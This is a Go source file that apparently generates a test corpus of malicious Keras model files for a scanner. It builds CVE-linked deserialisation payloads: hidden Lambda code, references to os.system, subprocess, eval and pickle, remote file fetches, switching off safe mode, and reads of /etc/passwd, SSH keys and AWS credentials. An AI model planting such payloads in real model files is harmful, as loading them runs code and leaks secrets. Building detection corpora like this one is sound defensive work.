package main

// secondKerasLambdas hides Python code of Lambda layers wherever a configuration holds objects.
func secondKerasLambdas(c *corpus) {
	const load = "load_model unmarshals and would run the code; "
	keras := func(class, why, config string) {
		c.secondBad("keras", class, load+why, "model.keras", k3Zip(config))
	}
	const wrapped = "Lambda inside of a wrapper, whose from_config deserialises it (CVE-2024-3660 one level down)"
	inner := k3LambdaLayer(k3Lambda())
	for _, l := range []string{
		k3Layer("TimeDistributed", `, "layer": `+inner),
		k3Layer("SpectralNormalization", `, "power_iterations": 1, "layer": `+inner),
		k3Layer("Bidirectional", `, "merge_mode": "concat", "layer": `+inner),
		k3Layer("Bidirectional", `, "merge_mode": "sum", "layer": `+k3Layer("LSTM", `, "units": 2`)+`, "backward_layer": `+inner),
		k3Layer("RNN", `, "return_sequences": false, "cell": `+inner),
		k3Layer("RNN", `, "cell": `+k3Layer("StackedRNNCells", `, "cells": [`+k3Layer("GRUCell", `, "units": 2`)+`, `+inner+`]`)),
		k3Layer("Pipeline", `, "layers": [`+k3Layer("Rescaling", `, "scale": 0.5, "offset": 0.0`)+`, `+inner+`]`),
	} {
		keras("lambda in a wrapper", wrapped, k3Sequential(l))
	}
	const nested = "Lambda in a model that is a layer of a model; models nest without end"
	keras("lambda in a nested model", nested, k3Sequential(k3Dense(), k3Sequential(k3Sequential(inner))))
	keras("lambda in a nested model", nested, k3Functional(k3Sequential(k3Dense(), inner), k3Node))
	keras("lambda in a nested model", nested, k3Sequential(k3Functional(inner, k3Node)))
	deep := inner
	for range 40 {
		deep = k3Sequential(deep)
	}
	keras("lambda in a nested model", nested, deep)

	const forms = "forms that Lambda.from_config and deserialize_keras_object take (keras lambda_layer.py, serialization_lib.py)"
	for _, l := range []string{
		k3LambdaLayer(k3Lambda()), k3LambdaLayer(k3LambdaValue()),
		k3LambdaLayer(k2Lambda("3.8")),
		k3Layer("Lambda", `, "function": `+k2Lambda("3.7")+`, "function_type": "lambda", "module": "__main__", "output_shape": null, "output_shape_type": "raw", "arguments": {}`),
		k3Layer("Lambda", `, "function": `+k3Function("builtins", "tanh")+`, "output_shape": `+k3Lambda()+`, "arguments": {}`),
		k3Layer("Lambda", `, "function": `+k3Function("builtins", "tanh")+`, "mask": `+k3Lambda()+`, "arguments": {}`),
		k3Object("keras.src.layers.core.lambda_layer", "Lambda", `{"name": "l", "function": `+k3Lambda()+`, "arguments": {}}`),
		k3Object("tf_keras.layers", "Lambda", `{"name": "l", "function": `+k3Lambda()+`, "arguments": {}}`),
		k3Object("tensorflow.keras.layers", "Lambda", `{"name": "l", "function": `+k3Lambda()+`, "arguments": {}}`),
	} {
		keras("lambda forms", forms, k3Sequential(l))
	}

	const odd = "__lambda__ where Keras deserialises an object that is no layer (serialization_lib.py recurses into every dict and list)"
	for _, key := range []string{"activation", "kernel_initializer", "bias_initializer", "kernel_regularizer", "bias_constraint", "dtype", "build_config"} {
		v, why := k3LambdaValue(), odd
		if key == "build_config" {
			v, why = `{"input_shape": [null, `+v+`]}`, odd+"; build_config is read by the layer's own code, and no honest one holds marshalled code"
		}
		keras("lambda in an odd place", why, k3Sequential(k3DenseWith(map[string]string{key: v})))
	}
	keras("lambda in an odd place", odd, k3Sequential(k3Layer("TextVectorization", `, "max_tokens": 10, "standardize": `+k3LambdaValue()+`, "split": "whitespace", "output_mode": "int", "vocabulary": null`)))
	keras("lambda in an odd place", odd, k3Sequential(k3Layer("TextVectorization", `, "max_tokens": 10, "standardize": null, "split": `+k3LambdaValue())))
	keras("lambda in an odd place", odd, k3Sequential(k3Layer("Rescaling", `, "scale": `+k3LambdaValue()+`, "offset": 0.0`)))
	keras("lambda in an odd place", odd, k3Functional(k3Dense(), `[{"args": [{"class_name": "__slice__", "config": {"start": `+k3LambdaValue()+`, "stop": null, "step": null}}], "kwargs": {}}]`))
	keras("lambda in an odd place", odd, k3Functional(k3Dense(), `[{"args": [], "kwargs": {"inputs": [[`+k3LambdaValue()+`]]}}]`))

	const compile = "compile_from_config deserialises optimizer, loss and metrics when the model is loaded"
	for _, cc := range []string{
		k3Compile(k3Adam, k3LambdaValue(), "null"),
		k3Compile(k3Adam, `{"out": "mse", "other": `+k3LambdaValue()+`}`, "null"),
		k3Compile(k3Adam, `"mse"`, `[["accuracy"], [`+k3LambdaValue()+`]]`),
		k3Compile(k3Adam, `"mse"`, `[`+k3Object("keras.metrics", "MeanMetricWrapper", `{"name": "m", "dtype": "float32", "fn": `+k3LambdaValue()+`}`)+`]`),
		k3Compile(k3Adam, k3Object("keras.losses", "LossFunctionWrapper", `{"name": "l", "reduction": "sum", "fn": `+k3LambdaValue()+`}`), "null"),
		k3Compile(k3Object("keras.optimizers", "SGD", `{"name": "sgd", "learning_rate": `+k3LambdaValue()+`}`), `"mse"`, "null"),
		k3Compile(k3Object("keras.optimizers", "LossScaleOptimizer", `{"inner_optimizer": `+k3Object("keras.optimizers", "SGD", `{"learning_rate": `+k3LambdaValue()+`}`)+`, "initial_scale": 32768.0}`), `"mse"`, "null"),
	} {
		keras("lambda in compile config", compile, k3Compiled(cc, k3Dense()))
	}
}

// secondKerasModules names functions and classes that are no parts of a model.
func secondKerasModules(c *corpus) {
	keras := func(class, why, config string) {
		c.secondBad("keras", class, why, "model.keras", k3Zip(config))
	}
	const imports = "Keras before 3.9 imports any module and takes any name from it (CVE-2025-1550); huntr: hunting vulnerabilities in Keras model deserialisation"
	call := func(module, name, kwargs string) string {
		return k3Functional(k3Layer("Lambda", `, "function": `+k3Function(module, name)+`, "arguments": `+kwargs), `[{"args": ["`+cmd+`"], "kwargs": {}}]`)
	}
	for _, f := range []struct{ module, name, kwargs string }{
		{"os", "system", `{}`}, {"posix", "system", `{}`}, {"subprocess", "check_output", `{"shell": true}`}, {"builtins", "eval", `{}`},
		{"builtins", "exec", `{}`}, {"runpy", "run_path", `{}`}, {"importlib", "import_module", `{}`}, {"shutil", "rmtree", `{}`}, {"pty", "spawn", `{}`},
		{"code", "interact", `{}`}, {"ctypes", "CDLL", `{}`}, {"pickle", "loads", `{}`}, {"numpy", "load", `{"allow_pickle": true}`}, {"torch", "load", `{"weights_only": false}`},
		{"urllib.request", "urlretrieve", `{"filename": "/tmp/lodemark-corpus"}`}, {"numpy.f2py.crackfortran", "myeval", `{}`}, {"timeit", "timeit", `{}`},
	} {
		keras("module of Python", "loading calls "+f.module+"."+f.name+"; "+imports, call(f.module, f.name, f.kwargs))
	}
	const spots = "the same reference as an activation, initialiser, loss or metric, which the layer or the trainer calls"
	system := k3Function("os", "system")
	for _, m := range []string{
		k3Sequential(k3DenseWith(map[string]string{"activation": system})),
		k3Sequential(k3DenseWith(map[string]string{"kernel_initializer": k3Function("subprocess", "Popen")})),
		k3Sequential(k3DenseWith(map[string]string{"kernel_regularizer": system})),
		k3Sequential(k3Layer("Activation", `, "activation": `+system)),
		k3Sequential(k3Layer("TextVectorization", `, "standardize": `+system+`, "split": "whitespace"`)),
		k3Compiled(k3Compile(k3Adam, system, "null"), k3Dense()),
		k3Compiled(k3Compile(k3Adam, `"mse"`, `{"out": [`+system+`]}`), k3Dense()),
		k3Sequential(k3Object("subprocess", "Popen", `{"args": "echo"}`)),
		k3Sequential(`{"module": "os", "class_name": "system", "config": {}, "registered_name": "keras>Dense"}`),
		`{"module": "os", "class_name": "function", "config": "system", "registered_name": "system", "build_config": {}, "compile_config": null}`,
	} {
		keras("module of Python in other places", "loading imports it and calls it, or hands it on to be called; "+spots, m)
	}

	const tools = "functions of Keras itself that are no parts of a model (CVE-2025-8747, CVE-2025-9906, CVE-2025-12060; NON_MODELING_APIS of Keras)"
	for _, f := range []struct{ module, name, arguments string }{
		{"keras.utils", "get_file", `{"origin": "` + url + `", "extract": true, "cache_dir": "/tmp"}`},
		{"keras.src.utils.file_utils", "get_file", `{"fname": "x", "origin": "` + url + `"}`},
		{"keras.src.utils.file_utils", "extract_archive", `{"path": "/tmp"}`},
		{"keras.utils.data_utils", "get_file", `{"origin": "` + url + `", "untar": true}`},
		{"keras.config", "enable_unsafe_deserialization", `{}`},
		{"keras.src.backend.common.global_state", "set_global_attribute", `{"value": false}`},
		{"keras.models", "load_model", `{"safe_mode": false}`}, {"keras.saving", "load_model", `{"safe_mode": false}`},
		{"keras.models", "model_from_json", `{}`}, {"keras.saving", "deserialize_keras_object", `{"safe_mode": false}`},
		{"keras.utils", "save_img", `{"x": [[[0]]]}`}, {"keras.utils", "load_img", `{}`}, {"keras.preprocessing.image", "load_img", `{}`},
		{"keras.utils", "image_dataset_from_directory", `{}`}, {"keras.src.utils.python_utils", "func_load", `{}`},
		{"keras.datasets.mnist", "load_data", `{"path": "` + url + `"}`}, {"keras.applications", "ResNet50", `{"weights": "` + url + `"}`},
		{"tf_keras.utils", "get_file", `{"origin": "` + url + `"}`}, {"tensorflow.io.gfile", "copy", `{"dst": "/tmp/lodemark-corpus"}`}, {"tensorflow", "load_library", `{}`},
	} {
		keras("function of Keras that is no layer", "loading would call "+f.module+"."+f.name+"; "+tools, k3Functional(k3Layer("Lambda", `, "function": `+k3Function(f.module, f.name)+`, "arguments": `+f.arguments), `[{"args": ["/tmp/provola"], "kwargs": {}}]`))
	}
	two := k3Functional(k3Layer("Lambda", `, "function": `+k3Function("keras.config", "enable_unsafe_deserialization")+`, "arguments": {}`), `[{"args": [], "kwargs": {}}]`)
	keras("safe mode off and a lambda behind", "the first layer turns safe mode off, the second runs code; CVE-2025-9906", k3Sequential(two, k3LambdaLayer(k3Lambda())))
}

// secondKerasFiles names files and addresses in a configuration.
func secondKerasFiles(c *corpus) {
	keras := func(class, why, config string) {
		c.secondBad("keras", class, why, "model.keras", k3Zip(config))
	}
	const vocabulary = "the vocabulary is read through tf.io.gfile, from anywhere, and comes out in get_vocabulary; CVE-2025-12058"
	for _, at := range []string{"/etc/passwd", "../../.aws/credentials", "gs://lodemark-corpus/x", "http://example.org/v.txt", "hdfs://example.org/v", `C:\\\\Users\\\\x\\\\.ssh\\\\id_rsa`} {
		keras("vocabulary of another place", vocabulary, k3Sequential(k3Layer("StringLookup", `, "max_tokens": null, "num_oov_indices": 1, "mask_token": null, "oov_token": "[UNK]", "vocabulary": "`+at+`", "idf_weights": null, "invert": false, "output_mode": "int"`)))
	}
	keras("vocabulary of another place", vocabulary, k3Sequential(k3Layer("IntegerLookup", `, "num_oov_indices": 1, "vocabulary": "/proc/self/environ"`)))
	keras("vocabulary of another place", vocabulary, k3Sequential(k3Layer("TextVectorization", `, "max_tokens": 100, "standardize": "lower", "split": "whitespace", "output_mode": "int", "vocabulary": "/etc/shadow"`)))
	keras("vocabulary of another place", vocabulary, k3Sequential(k3Sequential(k3Layer("TimeDistributed", `, "layer": `+k3Layer("StringLookup", `, "vocabulary": "/etc/passwd"`)))))
	keras("vocabulary of another place", vocabulary, k3Object("keras.utils", "FeatureSpace", `{"features": {"a": `+k3Object("keras.src.layers.preprocessing.feature_space", "Feature", `{"dtype": "string", "preprocessor": `+k3Layer("StringLookup", `, "vocabulary": "/etc/passwd"`)+`, "output_mode": "int"}`)+`}, "output_mode": "concat"}`))

	const torchModule = "TorchModuleWrapper.from_config calls torch.load with weights_only=False; CVE-2025-49655"
	module := b64(torchZip("archive", system()))
	for _, l := range []string{
		k3Layer("TorchModuleWrapper", `, "module": "`+module+`", "output_shape": null`),
		k3Object("keras.src.utils.torch_utils", "TorchModuleWrapper", `{"name": "t", "module": "`+module+`"}`),
		k3Layer("TimeDistributed", `, "layer": `+k3Layer("TorchModuleWrapper", `, "module": "`+b64(system())+`"`)),
		`{"module": null, "class_name": "TorchModuleWrapper", "config": {"name": "t", "module": "` + module + `"}, "registered_name": "TorchModuleWrapper"}`,
	} {
		keras("torch module", torchModule, k3Sequential(l))
	}
	const saved = "TFSMLayer.from_config loads a SavedModel from any path, whose graph runs; CVE-2026-1462"
	for _, at := range []string{"/tmp/evil", "../evil_saved_model", "gs://lodemark-corpus/evil", "//example.org/share/evil"} {
		keras("saved model of another place", saved, k3Sequential(k3Layer("TFSMLayer", `, "filepath": "`+at+`", "call_endpoint": "serve", "call_training_endpoint": null`)))
	}
	keras("saved model of another place", "hub.KerasLayer fetches its handle and runs that graph; TensorFlow Hub documentation", k3Sequential(`{"module": "tensorflow_hub.keras_layer", "class_name": "KerasLayer", "config": {"name": "keras_layer", "trainable": false, "handle": "https://example.org/evil/1"}, "registered_name": "KerasLayer"}`))

	const sharded = "keras.saving of sharded weights opens the names of weight_map; saving_lib.py ShardedH5IOStore"
	for _, at := range []string{"../../../etc/lodemark.weights.h5", "/tmp/lodemark.weights.h5"} {
		c.secondBad("keras", "sharded weights elsewhere", sharded, "model.weights.json", []byte(`{"metadata": {"total_size": 40}, "weight_map": {"/layers/dense/vars": ["`+at+`"]}}`))
	}
	const linked = "h5py follows the link when Keras reads the weights, so that another file's contents become weights; CVE-2026-1669"
	withWeights := func(h5 []byte) []byte {
		return zipped(entry{name: "metadata.json", data: []byte(k3Metadata)}, entry{name: "config.json", data: []byte(k3Sequential(k3Dense()))}, entry{name: "model.weights.h5", data: h5})
	}
	c.secondBad("keras", "weights of another file", linked, "model.keras", withWeights(hdf5(nil, group("layers", group("dense", external("vars", "/home/user/secret.h5", "/x"))))))
	c.secondBad("keras", "weights of another file", linked, "model.keras", withWeights(hdf5(nil, group("layers", group("dense", group("vars", outside("0", "/etc/passwd")))))))
	c.secondBad("keras", "weights of another file", linked, "model.weights.h5", hdf5(nil, group("layers", group("dense", group("vars", outside("0", "../../../../etc/shadow"))))))
	c.secondBad("keras", "weights of another file", linked, "model.h5", hdf5([]attr{{"model_config", k2Sequential(k2Dense)}}, group("model_weights", external("dense", "/tmp/other.h5", "/"))))
}
